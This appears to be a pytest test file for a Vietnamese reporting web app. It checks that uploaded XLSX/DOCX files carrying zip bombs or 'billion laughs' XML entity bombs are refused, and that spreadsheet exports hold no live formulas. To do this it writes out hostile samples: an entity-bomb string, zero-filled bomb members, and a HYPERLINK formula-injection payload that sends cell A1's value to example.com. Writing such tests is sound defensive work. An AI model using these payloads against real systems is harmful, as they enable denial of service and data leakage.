"""Hostile uploads are refused with a Vietnamese message before any reader opens them: zip
bombs and XML entity bombs dressed as XLSX (imports) or DOCX/XLSX (evidence), whatever their
name says; and CSV/XLSX exports never hand Excel a formula."""

from __future__ import annotations

import io
import zipfile

import openpyxl
import pytest

from cchc.base import office
from cchc.base.tables import ImportRejected, read_table
from cchc.reports.evidence_files import EvidenceFileError, check_file

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
    'package/2006/content-types"/>'
)
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;'
    '&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]><worksheet>&lol2;</worksheet>'
)


def _workbook() -> bytes:
    book = openpyxl.Workbook()
    book.active.append(["Mã hồ sơ", "Mã TTHC"])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _with_member(base: bytes, name: str, content: bytes) -> bytes:
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(base)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for item in source.infolist():
            data = content if item.filename == name else source.read(item.filename)
            target.writestr(item.filename, data)
        if name not in source.namelist():
            target.writestr(name, content)
    return out.getvalue()


@pytest.fixture
def small_limits(monkeypatch):
    monkeypatch.setattr(office, "MAX_UNPACKED", 4 * 1024 * 1024)
    monkeypatch.setattr(office, "RATIO_FROM", 1024 * 1024)


def test_a_zip_bomb_import_is_refused_before_reading(small_limits):
    bomb = _with_member(_workbook(), "xl/worksheets/sheet1.xml", b"\0" * (8 * 1024 * 1024))
    assert len(bomb) < 100_000
    with pytest.raises(ImportRejected, match="zip bomb"):
        read_table(bomb, "ho_so.xlsx")


def test_an_entity_bomb_import_is_refused(db):
    bomb = _with_member(_workbook(), "xl/worksheets/sheet1.xml", LAUGHS.encode())
    with pytest.raises(ImportRejected, match="khai báo thực thể XML"):
        read_table(bomb, "ho_so.xlsx")


def test_a_file_named_xlsx_that_is_not_a_zip_is_refused(db):
    with pytest.raises(ImportRejected, match="bị hỏng hoặc không phải tệp Excel/Word"):
        read_table(b"Ma ho so,Ma TTHC\n1,2\n", "ho_so.xlsx")


def test_a_real_workbook_passes(db):
    assert list(read_table(_workbook(), "ho_so.xlsx").columns) == ["Mã hồ sơ", "Mã TTHC"]


def test_hostile_evidence_is_refused_with_the_reason(settings, small_limits):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("word/document.xml", LAUGHS)
    with pytest.raises(EvidenceFileError, match="khai báo thực thể XML"):
        check_file("ke-hoach.docx", out.getvalue())
    bomb = _with_member(_workbook(), "xl/sharedStrings.xml", b" " * (8 * 1024 * 1024))
    with pytest.raises(EvidenceFileError, match="zip bomb"):
        check_file("so-lieu.xlsx", bomb)


HOSTILE = '=HYPERLINK("http://example.com/?"&A1,"Bấm vào đây")'


def _formulas(content: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


@pytest.mark.django_db
def test_no_xlsx_export_hands_excel_a_formula(client, province, quarter, consolidator, staff):
    from cchc.org.models import Role
    from cchc.reports import services
    from cchc.reports.models import Report

    unit = province["ST-STP"]
    unit.name = HOSTILE
    unit.save()
    draft = Report.objects.get(unit=province["ST-HCT"], period__code="Q3-2022")
    services.save_value(staff[Role.REPORTER], draft, "plan_tasks_total", None, note="@SUM(1+1)*cmd")
    client.force_login(consolidator)
    downloads = {
        "appendix": f"/reports/{draft.pk}/export/xlsx/",
        "overview": "/overview/Q3-2022/tinh-hinh-bao-cao.xlsx",
        "consolidated": "/consolidation/Q3-2022/tong-hop.xlsx?include=submitted",
        "dossiers": "/overview/Q3-2022/dossiers/bieu-II.06a.xlsx",
    }
    for name, url in downloads.items():
        response = client.get(url)
        assert response.status_code == 200, (name, response.status_code)
        assert _formulas(response.content) == [], name
    appendix = openpyxl.load_workbook(io.BytesIO(client.get(downloads["appendix"]).content))
    texts = [
        c.value for row in appendix.active.iter_rows() for c in row if isinstance(c.value, str)
    ]
    assert "@SUM(1+1)*cmd" in texts  # kept, as text
